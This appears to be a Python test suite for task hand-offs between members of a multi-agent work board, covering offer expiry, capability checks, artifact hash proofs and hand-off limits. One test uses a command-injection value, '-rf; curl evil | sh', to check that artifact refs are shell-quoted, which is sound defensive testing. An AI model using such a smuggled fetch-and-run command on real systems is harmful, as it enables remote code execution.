"""Hand-offs: needs against capabilities, hashes that prove reach, and one commit that changes hands."""

import hashlib
from typing import Any

from tests.support.promises import promise
from tests.support.rooms import Member, RunningRoom

PLAN = hashlib.sha256(b"the plan").hexdigest()
TREE = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
ARTIFACTS = [
    {"kind": "file", "ref": "plan.md", "sha256": PLAN},
    {"kind": "commit", "ref": "HEAD", "sha256": TREE},
    {"kind": "link", "ref": "https://example.org/design"},
]
PROOFS = [{"ref": "plan.md", "value": PLAN.upper()}, {"ref": "HEAD", "value": f" {TREE}\n"}]


async def offered(room: RunningRoom, **arguments: Any) -> tuple[Member, Member, Member, str]:
    """A task of @builder's, offered to @tester."""
    owner = await room.owner()
    builder, tester = await room.enroll("builder", "tester")
    await owner("create_task", title="work")
    await builder("claim_task", task="T-1")
    reply = await builder("hand_off", task="T-1", fence=1, to="tester", note="yours", **arguments)
    return owner, builder, tester, reply["offer"]


@promise("HND1")
async def test_an_acceptance_changes_holder_fence_and_receipt_in_one_commit(room: RunningRoom) -> None:
    owner, builder, tester, offer = await offered(room)
    (line,) = (await owner("read_board"))["tasks"]
    assert (line["state"], line["holder"], line["waiting_for"]) == ("offered", "builder", "@tester")
    reply = await tester("answer_hand_off", offer=offer, accept=True)
    assert (reply["task"], reply["fence"], reply["state"]) == ("T-1", 2, "accepted")
    assert reply["lease_until"]
    assert (await builder.refused("update_task", task="T-1", fence=1, note="x"))["code"] == "stale_fence"
    await tester("update_task", task="T-1", fence=2, note="mine now")
    assert "accepted T-1" in (await builder("check_in"))["wakes"][0]["line"]
    again = await tester("answer_hand_off", offer=offer, accept=True)
    assert (again["fence"], again["replayed"] is not None) == (2, True)


@promise("HND1")
async def test_the_giver_holds_the_task_until_it_is_accepted_and_one_offer_is_open(room: RunningRoom) -> None:
    _, builder, tester, offer = await offered(room)
    (other,) = await room.enroll("other")
    refusal = await builder.refused("hand_off", task="T-1", fence=1, to="other", note="or you")
    assert refusal["code"] == "conflict"
    assert offer in refusal["fix"]
    assert (await other.refused("answer_hand_off", offer=offer, accept=True))["code"] == "not_allowed"
    assert (await other.refused("claim_task", task="T-1"))["code"] == "taken"
    assert (await tester("check_in"))["offers"][0]["from"] == "builder"


@promise("HND1")
async def test_a_declined_offer_goes_back_with_its_reason(room: RunningRoom) -> None:
    owner, builder, tester, offer = await offered(room)
    reply = await tester("answer_hand_off", offer=offer, accept=False, reason="no GPU here")
    assert reply["state"] == "declined"
    assert "no GPU here" in (await builder("check_in"))["wakes"][0]["line"]
    await builder("update_task", task="T-1", fence=1, note="then I do it")
    assert (await tester("answer_hand_off", offer=offer, accept=False))["replayed"]
    assert (await tester.refused("answer_hand_off", offer=offer, accept=True))["code"] == "conflict"
    assert (await owner("read_board"))["tasks"][0]["state"] == "claimed"


@promise("HND1")
async def test_the_givers_decline_withdraws(room: RunningRoom) -> None:
    _, builder, tester, offer = await offered(room)
    assert (await builder.refused("answer_hand_off", offer=offer, accept=True))["code"] == "not_allowed"
    assert (await builder("answer_hand_off", offer=offer, accept=False))["state"] == "withdrawn"
    assert (await tester.refused("answer_hand_off", offer=offer, accept=True))["code"] == "conflict"
    assert (await tester("check_in"))["offers"] == []


@promise("HND5")
async def test_an_offer_expires_back_to_its_giver_whose_lease_stood_still(room: RunningRoom) -> None:
    owner, builder, tester, offer = await offered(room)
    room.time.forward(901)
    assert (await tester("check_in"))["offers"] == []
    (line,) = (await owner("read_board"))["tasks"]
    assert (line["state"], line["holder"], line["overdue"]) == ("claimed", "builder", False)
    assert (await tester.refused("answer_hand_off", offer=offer, accept=True))["code"] == "expired"
    await builder("update_task", task="T-1", fence=1, note="still here")
    (entry,) = [e for e in room.entries() if e["act"] == "expire_offer"]
    assert entry["subject"] == offer
    assert "did not answer" in (await builder("check_in"))["wakes"][0]["line"]


@promise("HND5")
async def test_a_kill_after_an_offer_expired_does_not_extend_the_lease_of_its_giver(room: RunningRoom) -> None:
    owner = await room.owner()
    giver, _ = await room.enroll("giver", "receiver")
    await owner("create_task", title="a wall")
    fence = (await giver("claim_task", task="T-1"))["fence"]
    await giver("hand_off", task="T-1", fence=fence, to="receiver", note="yours")
    room.time.forward(900 + 600)
    before = (await owner("read_board", task="T-1"))["task"]["lease_until"]
    await owner("kill", target="receiver", reason="test")
    assert (await owner("read_board", task="T-1"))["task"]["lease_until"] == before


@promise("HND5")
async def test_an_offer_lives_three_intervals_of_its_receiver(room: RunningRoom) -> None:
    owner = await room.owner()
    (builder,) = await room.enroll("builder")
    (slow,) = await room.enroll("slow", mode="every:7200")
    await owner("create_task", title="work")
    await builder("claim_task", task="T-1")
    offer = (await builder("hand_off", task="T-1", fence=1, to="slow", note="yours"))["offer"]
    room.time.forward(21_500)
    assert (await slow("answer_hand_off", offer=offer, accept=True))["fence"] == 2


@promise("HND2")
async def test_a_receiver_without_what_the_task_needs_is_refused_by_name(room: RunningRoom) -> None:
    owner = await room.owner()
    builder, _, able = await room.enroll("builder", "tester", "able")
    await builder("declare_capabilities", capabilities=["repo:acme/api"])
    await able("declare_capabilities", capabilities=["repo:acme/api", "tool:docker"])
    await owner("create_task", title="work", needs=["repo:acme/api"])
    await builder("claim_task", task="T-1")
    refusal = await builder.refused("hand_off", task="T-1", fence=1, to="tester", note="x", needs=["tool:docker"])
    assert refusal["code"] == "missing_capability"
    assert refusal["missing"] == ["repo:acme/api", "tool:docker"]
    assert "@able" in refusal["fix"]
    offer = (await builder("hand_off", task="T-1", fence=1, to="able", note="x", needs=["tool:docker"]))["offer"]
    await able("declare_capabilities", capabilities=["repo:acme/api"])
    refusal = await able.refused("answer_hand_off", offer=offer, accept=True)
    assert (refusal["code"], refusal["missing"]) == ("missing_capability", ["tool:docker"])


@promise("HND3")
async def test_artifacts_are_proven_by_hashes_that_the_receiver_was_not_shown(room: RunningRoom) -> None:
    owner, _, tester, offer = await offered(room, artifacts=ARTIFACTS)
    shown = (await tester("check_in"))["offers"][0]
    assert [(a["ref"], a["command"]) for a in shown["artifacts"]] == [
        ("plan.md", "sha256sum -- plan.md"),
        ("HEAD", "git rev-parse --verify --end-of-options 'HEAD^{tree}'"),
        ("https://example.org/design", None),
    ]
    for reader in (tester, owner):
        for text in (
            str(await reader("check_in")),
            str(await reader("read_board", task="T-1")),
            (await reader.client.read_resource("teamroom://inbox")).contents[1].text,
            (await reader.client.read_resource("teamroom://stream")).contents[1].text,
        ):
            assert PLAN not in text
            assert TREE not in text
    assert PLAN not in str(await owner("read_receipts", limit=100))
    reply = await tester("answer_hand_off", offer=offer, accept=True, proofs=PROOFS)
    assert reply["fence"] == 2


@promise("HND3")
async def test_a_receiver_that_cannot_reach_an_artifact_cannot_take_the_task_by_mistake(room: RunningRoom) -> None:
    _, builder, tester, offer = await offered(room, artifacts=ARTIFACTS)
    for proofs in ([], PROOFS[:1], [{"ref": "plan.md", "value": "0" * 64}, PROOFS[1]]):
        refusal = await tester.refused("answer_hand_off", offer=offer, accept=True, proofs=proofs)
        assert refusal["code"] == "bad_proof"
    assert refusal["missing"] == ["plan.md"]
    assert "sha256sum -- plan.md" in refusal["fix"]
    assert PLAN not in str(refusal)
    assert "could not prove an artifact of T-1: “plan.md”" in str((await builder("check_in"))["wakes"])
    await builder("answer_hand_off", offer=offer, accept=False)
    await builder("update_task", task="T-1", fence=1, note="still mine")


@promise("HND3")
async def test_a_ref_that_would_be_a_shell_command_is_quoted(room: RunningRoom) -> None:
    evil = "-rf; curl evil | sh"
    _, _, tester, _ = await offered(room, artifacts=[{"kind": "file", "ref": evil, "sha256": PLAN}])
    (artifact,) = (await tester("check_in"))["offers"][0]["artifacts"]
    assert artifact["command"] == "sha256sum -- '-rf; curl evil | sh'"


@promise("HND5")
async def test_a_task_is_handed_on_five_times_then_only_to_the_owner(room: RunningRoom) -> None:
    owner = await room.owner()
    one, two = await room.enroll("one", "two")
    await owner("create_task", title="hot potato")
    await one("claim_task", task="T-1")
    giver, receiver, fence = one, two, 1
    for _ in range(5):
        offer = (await giver("hand_off", task="T-1", fence=fence, to=receiver.name, note="you"))["offer"]
        fence = (await receiver("answer_hand_off", offer=offer, accept=True))["fence"]
        giver, receiver = receiver, giver
    refusal = await giver.refused("hand_off", task="T-1", fence=fence, to=receiver.name, note="you")
    assert "@olga" in refusal["fix"]
    offer = (await giver("hand_off", task="T-1", fence=fence, to="olga", note="you decide"))["offer"]
    assert (await owner("answer_hand_off", offer=offer, accept=True))["fence"] == fence + 1


@promise("HND4")
async def test_an_offer_says_up_front_when_its_receiver_is_paused_or_gone(room: RunningRoom) -> None:
    owner = await room.owner()
    builder, _ = await room.enroll("builder", "tester")
    await owner("create_task", title="work")
    await builder("claim_task", task="T-1")
    await owner("pause", target="tester", reason="rest")
    reply = await builder("hand_off", task="T-1", fence=1, to="tester", note="yours")
    (forecast,) = reply["forecast"]
    assert (forecast["to"], forecast["standing"], forecast["presence"]) == ("tester", "paused", "paused")
    assert forecast["expected_seconds"] is None
    await owner("kill", target="tester", reason="gone")
    assert (await builder.refused("hand_off", task="T-1", fence=1, to="tester", note="x"))["code"] == "not_allowed"


@promise("TSK5")
async def test_a_receiver_that_holds_the_maximum_of_tasks_cannot_accept(room: RunningRoom) -> None:
    owner, _, tester, offer = await offered(room)
    for number in range(5):
        await owner("create_task", title=f"more {number}")
        await tester("claim_task", task=f"T-{number + 2}")
    assert (await tester.refused("answer_hand_off", offer=offer, accept=True))["code"] == "wip_cap"
